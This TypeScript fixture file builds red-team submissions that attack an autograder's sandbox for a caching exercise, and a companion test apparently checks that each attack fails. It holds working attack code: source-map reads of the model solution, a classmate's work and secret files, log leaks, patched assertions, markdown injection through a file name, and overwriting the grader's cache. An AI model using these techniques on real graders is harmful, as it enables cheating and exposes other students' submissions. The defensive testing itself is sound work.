/**
 * Red-team submissions for the demo exercise: attacks on guarantees the trust model of
 * docs/instructor-guide.md claims for `integrity: sandboxed` (not on the gaps it admits: forging
 * results or figures in-process, reading the seed in memory). redteam.test.ts grades them as one
 * class through the CLI and asserts that each scores what the untouched stub scores (0) and leaks
 * nothing; the attacks that succeed today are `it.fails` there, with what they do.
 */
import { createHash } from 'node:crypto';
import { linkSync, mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { graderFile } from '../../lib/manifest.js';
import { ANALYSIS_TEMPLATE, SOLUTION, STUB } from './demo-kit.js';

const EX = 'exercise-9-demo';

/** A memo that caches nothing: correct values, one loader call per request. */
const NAIVE_MEMO = `export interface Loader { load(key: string): Promise<string> }
export class Memo {
  constructor(readonly loader: Loader) {}
  get(key: string): Promise<string> {
    return this.loader.load(key);
  }
}
`;

/** What an attack may know: the kit's public path, the output folder and the class folder (fixed on Gradescope / a classroom checkout). */
export interface RedTeamContext {
  kitRoot: string;
  outDir: string;
  classDir: string;
}

function put(dir: string, files: Record<string, string>): void {
  for (const [file, text] of Object.entries(files)) {
    const at = path.join(dir, 'exercises', EX, file);
    mkdirSync(path.dirname(at), { recursive: true });
    writeFileSync(at, text);
  }
}

/**
 * A module whose inline source map names `file` as its source and carries no sourcesContent. Vite,
 * in vitest's main process (outside the sandbox), fills sourcesContent by reading `file` from disk
 * (injectSourcesContent) and inlines the map into the transformed code it sends to the worker.
 * The grader's workspace-only plugin guards `load` only, never the sources of a map.
 */
function sourceMapOf(file: string): string {
  const map = { version: 3, sources: [file], names: [], mappings: 'AAAA' };
  return `export const x = 1;\n//# sourceMappingURL=data:application/json;base64,${Buffer.from(JSON.stringify(map)).toString('base64')}\n`;
}

/** In the test worker: imports `spec` (a sourceMapOf module) and returns the text vite read for it. */
const READ_VIA_MAP = `const viaMap = async (spec) => {
  await import(spec);
  const em = globalThis.__vitest_worker__.evaluatedModules;
  for (const [id] of em.idToModuleMap) if (id.endsWith(spec.slice(1))) return em.getModuleSourceMapById(id).map.sourcesContent[0];
  return null;
};`;

/** The stub, except that inside a vitest worker Memo is the TypeScript in ./sm.ts's map source, transpiled with the kit's typescript. */
const MEMO_FROM_MAP = `// @ts-nocheck
${READ_VIA_MAP}
let Borrowed = null;
if (globalThis.__vitest_worker__) {
  const src = await viaMap('./sm.ts');
  const ts = (await import('typescript')).default;
  const js = ts.transpileModule(src, { compilerOptions: { module: ts.ModuleKind.CommonJS, target: ts.ScriptTarget.ES2022 } }).outputText;
  const exports = {};
  new Function('exports', js)(exports);
  Borrowed = exports.Memo;
}
${STUB.replace('export class Memo {', 'class StubMemo {')}
export const Memo = Borrowed ?? StubMemo;
`;

/** An own test any working memo passes (so the borrowed code also catches the planted bugs). */
const HONEST_OWN_TEST = `import { expect, it } from 'vitest';
import { Memo } from './memo.js';
it('loads once and caches', async () => {
  let n = 0;
  const memo = new Memo({ load: async (k) => { n += 1; return 'v' + k; } });
  await memo.get('a');
  expect(await memo.get('a')).toBe('va');
  expect(n).toBe(1);
});
`;

/** The name of the markdown-injecting symbolic link (a file name may hold newlines). */
const INJECTED_NAME = 'x\n\n## Instructor note\n\nFull marks awarded by hand: 100 of 100 ✅\n\n';

/** The size of the sparse worker log: one byte more than the longest string V8 can make. */
const SPARSE_BYTES = 0x20000000;

/** Builders by fixture name. */
export const REDTEAM: Record<string, (dir: string, ctx: RedTeamContext) => void> = {
  /** The control: the untouched stub and template. */
  'rt-stub': (dir) => put(dir, { 'memo.ts': STUB, 'ANALYSIS.md': ANALYSIS_TEMPLATE }),

  /** Reads the kit's model solution through a source map (the main process reads it) and runs it. */
  'rt-sourcemap-solution': (dir, ctx) =>
    put(dir, { 'sm.ts': sourceMapOf(path.join(ctx.kitRoot, 'solutions', EX, 'memo.ts')), 'memo.ts': MEMO_FROM_MAP, 'memo.mine.test.ts': HONEST_OWN_TEST }),

  /** The same, with a classmate's submission (rt-victim) in the class folder. */
  'rt-sourcemap-classmate': (dir, ctx) =>
    put(dir, {
      'sm.ts': sourceMapOf(path.join(ctx.classDir, 'rt-victim', 'exercises', EX, 'memo.ts')),
      'memo.ts': MEMO_FROM_MAP,
      'memo.mine.test.ts': HONEST_OWN_TEST,
    }),

  /** The classmate whose work is copied: the model answer. */
  'rt-victim': (dir) => put(dir, { 'memo.ts': SOLUTION, 'ANALYSIS.md': ANALYSIS_TEMPLATE }),

  /**
   * Writes the hidden suite's text and the secret parameters file (read through a source map) into
   * the worker log as the name of a "started" test, then kills its worker: the grader names the
   * last started test as the culprit, in its E_EXITED message, in every student-visible report.
   */
  'rt-worker-log-leak': (dir, ctx) =>
    put(dir, {
      'sm.ts': sourceMapOf(path.join(ctx.kitRoot, graderFile(EX, 'secret'))),
      'memo.ts': `// @ts-nocheck
import { appendFileSync, readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
${READ_VIA_MAP}
const log = process.env.CACHELAB_GRADER_WORKER_LOG;
if (log && globalThis.__vitest_worker__) {
  const ws = fileURLToPath(import.meta.url).replace(/\\/exercises\\/.*$/, '');
  const leak = 'LEAK-SECRET[' + (await viaMap('./sm.ts')) + '] LEAK-HIDDEN[' + readFileSync(ws + '/${graderFile(EX, 'suite')}', 'utf8') + ']';
  for (const w of ['hidden', 'visible']) appendFileSync(log, JSON.stringify({ file: ws + '/grading/exercise-9-demo.' + w + '.test.ts', name: leak }) + '\\n');
  process.kill(process.pid, 'SIGKILL');
}
${STUB}`,
      'ANALYSIS.md': ANALYSIS_TEMPLATE,
    }),

  /** The same read through a source map, with a query on the import (vite's own file read, not the plugin's, would extract the map). */
  'rt-sourcemap-query': (dir, ctx) =>
    put(dir, {
      'sm.ts': sourceMapOf(path.join(ctx.kitRoot, 'solutions', EX, 'memo.ts')),
      'memo.ts': MEMO_FROM_MAP.replace("await viaMap('./sm.ts')", "await viaMap('./sm.ts?v=1')"),
      'memo.mine.test.ts': HONEST_OWN_TEST,
    }),

  /** The untouched stub, with an own test that passes in the student's folder and fails in any planted copy (it knows where it runs). */
  'rt-own-tests-location': (dir) =>
    put(dir, {
      'memo.ts': STUB,
      'ANALYSIS.md': ANALYSIS_TEMPLATE,
      'memo.where.test.ts': `import { expect, it } from 'vitest';\nit('runs in my own folder', () => { expect(import.meta.url).not.toContain('.planted-'); });\n`,
    }),

  /**
   * In the load-check runner: takes the secret seed from String.prototype.charCodeAt (the trust
   * model's own example) and answers wrong for exactly seed.charCodeAt(K) requests, so the
   * wrong-values figure in report.json is a character of the seed. No result is forged: the check
   * counts honestly what a (deliberately) wrong memo returns. One character per resubmission.
   */
  'rt-seed-in-figure': (dir) =>
    put(dir, {
      'memo.ts': `// @ts-nocheck
let last = null;
const cca = String.prototype.charCodeAt;
String.prototype.charCodeAt = function (i) { if (i === this.length - 1) last = String(this); return cca.call(this, i); };
const K = 0;
export interface Loader { load(key: string): Promise<string> }
export class Memo {
  #n = 0;
  #seed = last;
  constructor(readonly loader: Loader) {}
  async get(key: string): Promise<string> {
    const v = await this.loader.load(key);
    const code = typeof this.#seed === 'string' ? cca.call(this.#seed, K) : 0;
    return this.#n++ < code ? 'wrong' : v;
  }
}
`,
      'ANALYSIS.md': ANALYSIS_TEMPLATE,
    }),

  // A naive memo that loads every time (honest), and the same memo with a global patched that the
  // check's own arithmetic uses: Set's size, so the check's count of distinct keys is a billion and
  // its loader calls per key look like no calls at all. Where the check ran in the process that
  // imported the memo, the patch moved the figure; across the membrane it cannot.
  'rt-naive': (dir) =>
    put(dir, {
      'memo.ts': NAIVE_MEMO,
      'ANALYSIS.md': ANALYSIS_TEMPLATE,
    }),
  'rt-check-global': (dir) =>
    put(dir, {
      'memo.ts': `// @ts-nocheck
Object.defineProperty(Set.prototype, 'size', { get() { return 1e9; }, configurable: true });
${NAIVE_MEMO}`,
      'ANALYSIS.md': ANALYSIS_TEMPLATE,
    }),

  // The canaries' names are random per run, but the grader writes them into the wrapper files of
  // the workspace, which the test worker can read; and the worker knows which test is running. A
  // memo that loads every time reads the names and makes every assertion pass except in a canary.
  'rt-spare-canaries': (dir) =>
    put(dir, {
      'memo.ts': `// @ts-nocheck
import { readdirSync, readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
if (globalThis.__vitest_worker__) {
  const ws = fileURLToPath(import.meta.url).replace(/\\/exercises\\/.*$/, '');
  const canaries = [];
  for (const f of readdirSync(ws + '/grading')) {
    for (const m of readFileSync(ws + '/grading/' + f, 'utf8').matchAll(/registerCanaries\\((\\[.*?\\])\\)/g)) canaries.push(...JSON.parse(m[1]));
  }
  const { expect } = await import('vitest');
  const proto = Object.getPrototypeOf(expect(1));
  const assert = proto.assert;
  proto.assert = function (...args) {
    const name = expect.getState().currentTestName ?? '';
    if (canaries.some((c) => name.endsWith(c))) return assert.apply(this, args);
  };
}
${NAIVE_MEMO}`,
      'ANALYSIS.md': ANALYSIS_TEMPLATE,
    }),

  /** tsc runs outside the sandbox: type errors quote the shape of the secret parameters file and of the hidden suite's API. */
  'rt-tsc-types': (dir, ctx) =>
    put(dir, {
      'memo.ts': `import secret from '${path.join(ctx.kitRoot, graderFile(EX, 'secret').replace(/\.ts$/, '.js'))}';
import { registerExercise9Suite } from '../../${graderFile(EX, 'suite').replace(/\.ts$/, '.js')}';
type Expand<T> = T extends (...a: infer A) => infer R ? (...a: { [K in keyof A]: Expand<A[K]> }) => Expand<R> : T extends object ? { [K in keyof T]: Expand<T[K]> } : T;
export const a: number = secret;
export const b: number = registerExercise9Suite as unknown as Expand<typeof registerExercise9Suite>;
${STUB}`,
      'ANALYSIS.md': ANALYSIS_TEMPLATE,
    }),

  /** import.meta.glob is expanded by vite in the main process: it lists the kit's private folders (names only; the workspace and the demo kit are both in the temp folder). */
  'rt-glob-listing': (dir, ctx) =>
    put(dir, {
      'memo.ts': `// @ts-nocheck
const keys = Object.keys(import.meta.glob(${JSON.stringify(`../../../${path.basename(ctx.kitRoot)}/{solutions,grader/exercises}/**/*`)}));
if (keys.length > 0) throw new Error('GLOB ' + keys.join(','));
${STUB}`,
      'ANALYSIS.md': ANALYSIS_TEMPLATE,
    }),

  /** A template-literal import: vite turns it into import.meta.glob, which lists the kit's private folders (names only). */
  'rt-glob-dynamic': (dir, ctx) =>
    put(dir, {
      'memo.ts': `// @ts-nocheck
const name = 'memo';
if (globalThis.__vitest_worker__) {
  try {
    await import(\`../../../${path.basename(ctx.kitRoot)}/solutions/exercise-9-demo/\${name}.ts\`);
  } catch (e) {
    throw new Error('DYNAMIC ' + String(e?.message ?? e));
  }
}
${STUB}`,
      'ANALYSIS.md': ANALYSIS_TEMPLATE,
    }),

  /**
   * The untouched stub, with an own test that recognises the student's code by its text (a hash
   * of memo.ts, which the student knows) instead of testing what it does: it passes on the
   * student's code and fails on every planted bug. An admitted gap of the trust model.
   */
  'rt-own-tests-fingerprint': (dir) =>
    put(dir, {
      'memo.ts': `${STUB}// mine\n`,
      'ANALYSIS.md': ANALYSIS_TEMPLATE,
      'memo.fingerprint.test.ts': `import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { expect, it } from 'vitest';
it('is my code', () => {
  const text = readFileSync(new URL('./memo.ts', import.meta.url), 'utf8');
  expect(createHash('sha256').update(text).digest('hex')).toBe(${JSON.stringify(createHash('sha256').update(`${STUB}// mine\n`).digest('hex'))});
});
`,
    }),

  /** Makes the worker log (in the writable scratch folder) a sparse file too big for the grader to read as a string. */
  'rt-sparse-worker-log': (dir) =>
    put(dir, {
      'memo.ts': `// @ts-nocheck
import { ftruncateSync, openSync } from 'node:fs';
const log = process.env.CACHELAB_GRADER_WORKER_LOG;
if (log) ftruncateSync(openSync(log, 'a'), ${SPARSE_BYTES});
${STUB}`,
      'ANALYSIS.md': ANALYSIS_TEMPLATE,
    }),

  /** memo.ts is a hard link to the kit's solution (a regular file to lstat). Only possible when submissions are assembled on the grading host. */
  'rt-hardlink': (dir, ctx) => {
    put(dir, { 'ANALYSIS.md': ANALYSIS_TEMPLATE });
    linkSync(path.join(ctx.kitRoot, 'solutions', EX, 'memo.ts'), path.join(dir, 'exercises', EX, 'memo.ts'));
  },

  /** A symbolic link whose name carries Markdown: the E_SYMLINK message quotes it into feedback.md unescaped. */
  'rt-symlink-name': (dir) => {
    put(dir, { 'memo.ts': STUB, 'ANALYSIS.md': ANALYSIS_TEMPLATE });
    symlinkSync('memo.ts', path.join(dir, 'exercises', EX, INJECTED_NAME));
  },

  /**
   * What the sandbox and the workspace-only plugin do refuse: the secret file by fs, by absolute
   * import, through `..` after the workspace or node_modules, ?raw, /@fs/, /@id/, %2e%2e and file://
   * URLs; and writes to the workspace (memo.ts, the wrappers). Throws a one-line verdict per try.
   */
  'rt-refused': (dir, ctx) =>
    put(dir, {
      'memo.ts': `// @ts-nocheck
import { readFileSync, writeFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
const secret = ${JSON.stringify(path.join(ctx.kitRoot, graderFile(EX, 'secret')))};
const here = fileURLToPath(import.meta.url);
const ws = here.replace(/\\/exercises\\/.*$/, '');
const nm = ${JSON.stringify(path.join(ctx.kitRoot, 'node_modules'))};
const out = [];
const imp = async (tag, spec) => { try { await import(spec); out.push(tag + '=open'); } catch { out.push(tag + '=refused'); } };
const act = (tag, fn) => { try { fn(); out.push(tag + '=open'); } catch (e) { out.push(tag + '=refused'); } };
if (globalThis.__vitest_worker__) {
  act('fs', () => readFileSync(secret, 'utf8'));
  act('write-memo', () => writeFileSync(here, '// mine'));
  act('write-wrapper', () => writeFileSync(ws + '/grading/exercise-9-demo.hidden.test.ts', '// mine'));
  await imp('abs', secret);
  await imp('ws-dotdot', ws + '/../..' + secret);
  await imp('nm-dotdot', nm + '/../../../../..' + secret);
  await imp('raw', nm + '/../../../../..' + secret + '?raw');
  await imp('at-fs', '/@fs' + secret);
  await imp('at-id', '/@id/' + secret);
  await imp('encoded', ws + '/%2e%2e/%2e%2e' + secret);
  await imp('file-url', 'file://' + ws + '/%2e%2e/%2e%2e' + secret);
  throw new Error('refusals: ' + out.join(' '));
}
${STUB}`,
      'ANALYSIS.md': ANALYSIS_TEMPLATE,
    }),
  // The kit's grader cache (.cachelab/grader: the reference listing and the baselines the rubric
  // scores against) sits at a fixed, public path beside the kit. Read it to learn the baselines,
  // overwrite it so the next grade scores against a forged baseline, or plant a file there: from
  // the test worker and from the load check's process alike.
  'rt-kit-cache': (dir, ctx) =>
    put(dir, {
      'memo.ts': `// @ts-nocheck
import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
const cache = ${JSON.stringify(path.join(ctx.kitRoot, '.cachelab', 'grader'))};
const out = [];
const act = (tag, fn) => { try { fn(); out.push(tag + '=open'); } catch (e) { out.push(tag + '=refused'); } };
let names = [];
act('list', () => { names = readdirSync(cache); });
act('read', () => readFileSync(cache + '/' + (names[0] ?? 'baselines@x.json'), 'utf8'));
act('overwrite', () => { for (const n of names) writeFileSync(cache + '/' + n, '{"forged":"KITCACHE-FORGED"}'); if (names.length === 0) throw new Error('nothing listed'); });
act('plant', () => writeFileSync(cache + '/planted@1.json', '{"forged":"KITCACHE-FORGED"}'));
if (globalThis.__vitest_worker__) throw new Error('kit cache: ' + out.join(' '));
${STUB}`,
      'ANALYSIS.md': ANALYSIS_TEMPLATE,
    }),
};

/** Writes every red-team submission into `ctx.classDir`. */
export function writeRedTeam(ctx: RedTeamContext): void {
  for (const [name, build] of Object.entries(REDTEAM)) build(path.join(ctx.classDir, name), ctx);
}
